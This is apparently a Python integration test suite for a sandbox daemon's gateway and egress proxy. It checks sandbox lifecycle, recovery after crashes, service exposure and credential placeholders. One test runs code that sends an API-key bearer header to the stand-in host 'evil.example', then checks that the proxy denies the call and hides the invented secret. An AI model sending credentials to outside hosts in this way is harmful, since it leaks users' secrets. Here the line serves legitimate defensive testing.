"""The program itself: real gateway process, real egress process, real Sandboxes, the official SDK."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import httpx
import pytest
from google.protobuf import struct_pb2
from openshell import SandboxClient, ServiceAuthorizationMode, ServiceExposure, TlsConfig
from openshell._proto import datamodel_pb2, openshell_pb2_grpc
from openshell._proto import openshell_pb2 as pb

from oce.sandboxd.state.keys import Keys, ensure_keys

pytestmark = pytest.mark.sandbox

SECRET = "sk-invented-real-0123456789"
WORKSPACE = datamodel_pb2.WorkspaceSelector(workspace="default")


def until(condition, seconds=20.0):
    deadline = time.monotonic() + seconds
    while True:
        with contextlib.suppress(Exception):
            value = condition()
            if value:
                return value
        if time.monotonic() > deadline:
            return condition() or pytest.fail(f"not within {seconds} s")
        time.sleep(0.02)


class Daemon:
    """One `sandboxd` on its own state directory."""

    def __init__(self, folder, config=""):
        self.folder = folder
        self.state = folder / "s"
        self.config = folder / "sandboxd.toml"
        with socket.create_server(("127.0.0.1", 0)) as found:
            self.port = found.getsockname()[1]
        self.config.write_text(
            f'[gateway]\nlisten = "127.0.0.1:{self.port}"\nstate_dir = "{self.state}"\n{config}'
        )
        self.process = None

    def command(self, *arguments):
        return [sys.executable, "-m", "oce.sandboxd.main", *arguments, "--config", str(self.config)]

    def start(self):
        with (self.folder / "log").open("ab") as log:
            self.process = subprocess.Popen(self.command("serve"), stdout=log, stderr=log)
        until((self.state / "auth/ca.crt").exists)
        with self.sdk() as client:
            until(lambda: client.health().status == pb.SERVICE_STATUS_HEALTHY)

    def kill(self):
        self.process.kill()
        self.process.wait()

    def sdk(self):
        keys = Keys(self.state / "auth")
        tls = TlsConfig(keys.ca, keys.client_certificate, keys.client_key)
        return SandboxClient(f"127.0.0.1:{self.port}", tls=tls, timeout=20)

    def processes(self, *words):
        """Return the pids whose command line has our state directory and these words."""
        found = []
        for entry in Path("/proc").iterdir():
            with contextlib.suppress(OSError):
                text = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
                if all(word.encode() in text for word in (str(self.state), *words)):
                    found.append(int(entry.name))
        return found

    def egress_pid(self):
        (pid,) = self.processes("oce.sandboxd.egress")
        return pid

    def stop_all(self):
        subprocess.run(self.command("stop-all"), check=True, timeout=60, capture_output=True)
        if self.process is not None:
            self.process.wait(10)

    def left_over(self):
        """Return every process that still names this state directory, and every runtime folder."""
        run = self.state / "place/run"
        folders = [str(item) for item in run.iterdir()] if run.is_dir() else []
        return self.processes() + folders


@pytest.fixture
def daemons():
    made = []
    folders = []

    def make(config=""):
        # Not tmp_path: as root a Sandbox's uid must be able to pass through every parent.
        folder = Path(tempfile.mkdtemp(prefix="sbxd-"))
        folder.chmod(0o755)
        folders.append(folder)
        made.append(Daemon(folder, config.replace("{folder}", str(folder))))
        return made[-1]

    yield make
    for daemon in made:
        daemon.stop_all()
        assert daemon.left_over() == []
    for folder in folders:
        shutil.rmtree(folder)


@pytest.fixture
def daemon(daemons):
    made = daemons()
    made.start()
    return made


def python_inside(client, name):
    """Return the real path of an interpreter inside."""
    result = client.exec(
        name,
        ["sh", "-c", "readlink -f /usr/bin/python3 || ls /opt/oce/python/bin/python3.1?"],
        workspace="default",
    )
    return result.stdout.strip().splitlines()[0]


def test_the_sdk_creates_executes_lists_and_deletes(daemon):
    with daemon.sdk() as client:
        made = client.create(
            workspace="default", name="one", spec=pb.SandboxSpec(command=["sleep", "1000"])
        )
        until(lambda: client.get("one", workspace="default").phase == pb.SANDBOX_PHASE_READY)
        result = client.exec(
            "one",
            ["sh", "-c", "id -u; cat; echo $MARK; pwd; exit 7"],
            workspace="default",
            stdin=b"given\n",
            env={"MARK": "m"},
        )
        assert (result.exit_code, result.stdout) == (7, "1000\ngiven\nm\n/sandbox\n")
        late = client.exec("one", ["sleep", "100"], workspace="default", timeout_seconds=1)
        assert late.exit_code == 124
        assert [item.id for item in client.list_all(workspace="default")] == [made.id]
        client.delete("one", workspace="default")
        client.wait_deleted("one", workspace="default", timeout_seconds=20)
    assert list((daemon.state / "sandboxes").iterdir()) == []


def test_a_killed_gateway_adopts_the_running_sandbox(daemon):
    with daemon.sdk() as client:
        client.create(
            workspace="default", name="one", spec=pb.SandboxSpec(command=["sleep", "1000"])
        )
        until(lambda: client.get("one", workspace="default").phase == pb.SANDBOX_PHASE_READY)
        client.exec("one", ["touch", "/tmp/mark"], workspace="default")
    egress = daemon.egress_pid()
    daemon.kill()
    daemon.start()
    assert daemon.egress_pid() == egress
    with daemon.sdk() as client:
        until(lambda: client.exec("one", ["ls", "/tmp/mark"], workspace="default").exit_code == 0)
        status = client.get("one", workspace="default").status
        assert (status.phase, status.restart_count) == (pb.SANDBOX_PHASE_READY, 0)
        client.stop("one", workspace="default")
        client.wait_stopped("one", workspace="default", timeout_seconds=20)
        client.start("one", workspace="default")
        until(lambda: client.get("one", workspace="default").phase == pb.SANDBOX_PHASE_READY)


def test_an_exit_while_the_gateway_was_away_keeps_its_code(daemon):
    command = ["sh", "-c", "while [ ! -e /sandbox/go ]; do sleep 0.02; done; exit 9"]
    with daemon.sdk() as client:
        made = client.create(workspace="default", name="one", spec=pb.SandboxSpec(command=command))
        until(lambda: client.get("one", workspace="default").phase == pb.SANDBOX_PHASE_READY)
    daemon.kill()
    go = daemon.state / "sandboxes" / made.id / "workspace/go"
    go.touch()
    until(lambda: list((daemon.state / "place/run" / made.id).glob("exit*")))
    daemon.start()
    with daemon.sdk() as client:
        until(lambda: client.get("one", workspace="default").phase == pb.SANDBOX_PHASE_ERROR)
        assert client.get("one", workspace="default").status.exit_code == 9


def test_a_second_instance_and_a_taken_port_are_refused_with_the_reason(daemon, daemons):
    second = subprocess.run(
        daemon.command("serve"), capture_output=True, text=True, timeout=30, check=False
    )
    assert second.returncode == 2
    assert f"process {daemon.process.pid} holds" in second.stderr
    other = daemons()
    with socket.create_server(("127.0.0.1", other.port)):
        taken = subprocess.run(
            other.command("serve"), capture_output=True, text=True, timeout=30, check=False
        )
    assert taken.returncode == 2
    assert f"127.0.0.1:{other.port} is in use by another process" in taken.stderr


def test_a_service_inside_is_reached_with_its_bearer(daemon):
    code = (
        "import http.server as h\n"
        "class H(h.BaseHTTPRequestHandler):\n"
        "  def do_GET(s):\n"
        "    b=str(s.headers.get('authorization')).encode()\n"
        "    s.send_response(200);s.send_header('content-length',str(len(b)));s.end_headers()\n"
        "    s.wfile.write(b)\n"
        "h.HTTPServer(('127.0.0.1',8000),H).serve_forever()\n"
    )
    exposure = ServiceExposure(
        target_port=8000, authorization_mode=ServiceAuthorizationMode.BEARER_PASSTHROUGH
    )
    with daemon.sdk() as client:
        client.create(workspace="default", name="probe")
        until(lambda: client.get("probe", workspace="default").phase == pb.SANDBOX_PHASE_READY)
        python = python_inside(client, "probe")
        made = client.create(
            workspace="default",
            name="web",
            spec=pb.SandboxSpec(command=[python, "-c", code]),
            service_exposures=[exposure],
        )
    url = made.service_urls[""]
    assert url == f"https://default--web.openshell.localhost:{daemon.port}/"
    context = ssl.create_default_context(cafile=Keys(daemon.state / "auth").ca)

    def ask():
        # The name needs no resolver: the address is ours, the name goes into SNI and Host.
        with httpx.Client(verify=context) as http:
            return http.get(
                f"https://127.0.0.1:{daemon.port}/",
                headers={"Host": "default--web.openshell.localhost", "Authorization": "Bearer t"},
                extensions={"sni_hostname": "default--web.openshell.localhost"},
            )

    assert until(lambda: ask().text == "Bearer t")


class Upstream:
    """A TLS server that plays `api.openai.com` and remembers who called."""

    def __init__(self, folder):
        keys = ensure_keys(folder, "api.openai.com")
        self.ca = keys.ca
        self.seen = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                self.rfile.read(int(self.headers["content-length"]))
                seen.append(self.headers.get("authorization"))
                body = b'{"ok": true}'
                self.send_response(200)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_arguments):
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(keys.server_certificate, keys.server_key)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self):
        return self.server.server_address[1]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_a_placeholder_becomes_the_key_only_outside(daemons, tmp_path):
    upstream = Upstream(tmp_path)
    shown = shutil.copy(upstream.ca, tmp_path / "root.pem")
    made = daemons(
        '[[egress.upstream]]\nhost = "api.openai.com"\nport = 443\n'
        f'connect = "127.0.0.1:{upstream.port}"\nca_file = "{shown}"\n'
    )
    made.start()
    try:
        with made.sdk() as client:
            client.create(workspace="default", name="probe")
            until(lambda: client.get("probe", workspace="default").phase == pb.SANDBOX_PHASE_READY)
            python = python_inside(client, "probe")
            _attach(client, python)
            client.create(workspace="default", name="agent", spec=pb.SandboxSpec(providers=["key"]))
            until(lambda: client.get("agent", workspace="default").phase == pb.SANDBOX_PHASE_READY)
            code = (
                "import os,urllib.request as u,urllib.error as e\n"
                "def ask(url):\n"
                "  r=u.Request(url,data=b'{}',headers={'Authorization':'Bearer '+os.environ['OPENAI_API_KEY']})\n"
                "  try: return u.urlopen(r,timeout=10).status\n"
                "  except e.HTTPError as x: return x.code\n"
                "print(os.environ['OPENAI_API_KEY'],ask('https://api.openai.com/v1/responses'),"
                "ask('https://api.openai.com/other'),ask('https://evil.example/'))\n"
            )
            result = client.exec("agent", [python, "-c", code], workspace="default")
            assert result.stderr == ""
            placeholder, good, elsewhere, denied = result.stdout.split()
            assert placeholder == "openshell:resolve:env:OPENAI_API_KEY"
            assert (good, elsewhere, denied) == ("200", "403", "403")
            assert upstream.seen == [f"Bearer {SECRET}"]
            assert SECRET not in client.exec("agent", ["env"], workspace="default").stdout
            stub = openshell_pb2_grpc.OpenShellStub(client._channel)

            def lines():
                answer = stub.GetSandboxLogs(
                    pb.GetSandboxLogsRequest(workspace_scope=WORKSPACE, sandbox="agent")
                )
                text = "\n".join(line.message for line in answer.logs)
                return text if "evil.example" in text and "ALLOWED" in text else None

            text = until(lines)
            assert "[policy:_provider_key" in text
            assert "DENIED" in text
            assert SECRET not in text
            os.kill(made.egress_pid(), signal.SIGKILL)
            until(
                lambda: (
                    client.exec("agent", [python, "-c", code], workspace="default").stdout
                    == result.stdout
                )
            )
        log = (made.folder / "log").read_text()
        assert SECRET not in log
    finally:
        upstream.close()


def _attach(client, python):
    stub = openshell_pb2_grpc.OpenShellStub(client._channel)
    profile = pb.ProviderProfile(
        id="oce-openai",
        credentials=[{"name": "api_key", "env_vars": ["OPENAI_API_KEY"]}],
        endpoints=[
            {
                "host": "api.openai.com",
                "port": 443,
                "protocol": "rest",
                "enforcement": 1,
                "access": 2,
                "path": "/v1/**",
            }
        ],
        binaries=[{"path": python}],
    )
    stub.ImportProviderProfiles(
        pb.ImportProviderProfilesRequest(workspace_scope=WORKSPACE, profiles=[{"profile": profile}])
    )
    stub.CreateProvider(
        pb.CreateProviderRequest(
            workspace_scope=WORKSPACE,
            provider=datamodel_pb2.Provider(
                metadata=datamodel_pb2.ObjectMeta(name="key"),
                type="oce-openai",
                credentials={"api_key": SECRET},
            ),
        )
    )


def test_two_sandboxes_share_a_configured_folder(daemons):
    made = daemons('[[mount_sources]]\nid = "agents"\npath = "{folder}/agents"\n')
    work = made.folder / "agents/agt_1/work"
    work.mkdir(parents=True)
    config = struct_pb2.Struct()
    data = {"source_id": "agents", "sub_path": "agt_1/work", "mount_path": "/sandbox/data"}
    fresh = {"source_id": "agents", "sub_path": "runtime-1", "mount_path": "/sandbox/.runtime"}
    config.update({"local": {"mounts": [data, fresh], "limits": {"memory_bytes": 1 << 30}}})
    spec = pb.SandboxSpec(template=pb.SandboxTemplate(driver_config=config))
    made.start()
    with made.sdk() as client:
        for name in ("one", "two"):
            client.create(workspace="default", name=name, spec=spec)
            until(lambda name=name: client.get(name, workspace="default").phase == 2)
            result = client.exec(
                name,
                ["sh", "-c", f"echo {name} | tee -a /sandbox/.runtime/log >> /sandbox/data/log"],
                workspace="default",
            )
            assert (result.exit_code, result.stderr) == (0, "")
    assert (work / "log").read_text() == "one\ntwo\n"
    assert (made.folder / "agents/runtime-1/log").read_text() == "one\ntwo\n"


def test_changed_operator_settings_reach_the_egress_process(daemons, tmp_path):
    made = daemons()
    made.start()
    before = made.egress_pid()
    made.kill()
    made.config.write_text(f"{made.config.read_text()}[egress]\nmax_connections = 9\n")
    made.start()
    assert made.egress_pid() != before


def test_registration_is_explicit_and_lets_the_sdk_find_the_gateway(daemon, monkeypatch, tmp_path):
    environment = {**os.environ, "XDG_CONFIG_HOME": str(tmp_path)}
    assert not list(tmp_path.iterdir())
    subprocess.run(
        daemon.command("register", "--name", "here", "--activate"),
        check=True,
        env=environment,
        capture_output=True,
    )
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    with SandboxClient.from_active_cluster() as client:
        assert client.health().version == "0.1.5"
    metadata = json.loads((tmp_path / "openshell/gateways/here/metadata.json").read_text())
    assert metadata["auth_mode"] == "mtls"
